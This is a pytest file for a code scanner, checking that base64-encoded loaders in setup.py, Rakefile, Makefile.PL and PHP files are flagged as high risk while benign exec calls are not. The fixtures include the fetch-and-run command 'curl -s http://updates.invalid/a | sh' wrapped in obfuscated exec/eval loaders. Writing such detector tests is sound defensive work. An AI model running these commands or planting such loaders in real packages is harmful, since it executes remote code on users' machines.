"""Text that a source decodes and evaluates: it stands in a file, but nobody could review it."""

import base64

import pytest

from flycatcher.scanning.engine import scan_bytes

FETCH = "curl -s http://updates.invalid/a | sh"


def encoded(text):
    return base64.b64encode(text.encode()).decode()


def levels(name, text):
    return [finding.detection.risk.level for finding in scan_bytes(name, text.encode()).findings]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("setup.py", f"""exec(__import__("base64").b64decode("{encoded(f"import os;os.system('{FETCH}')")}"))"""),
        ("Rakefile", f"""eval(["{encoded(f"system('{FETCH}')")}"].first.unpack1("m"))"""),
        ("Makefile.PL", f"""use MIME::Base64; eval(decode_base64("{encoded(f"system('{FETCH}')")}"));"""),
        ("a.php", f"""<?php eval(base64_decode("{encoded(f"system('{FETCH}');")}"));"""),
    ],
)
def test_what_is_decoded_and_evaluated_counts_by_what_it_does(name, text):
    assert levels(name, text) == ["high"]


@pytest.mark.parametrize(
    "text",
    [
        "exec('print(1)')",
        "import zlib\nexec(compile(open('a.py').read(), 'a.py', 'exec'))",
        "import base64\nprint(base64.b64decode('cHJpbnQoMSk='))",
    ],
)
def test_what_stands_in_the_file_or_is_not_run_is_no_finding(text):
    assert levels("setup.py", text) == []
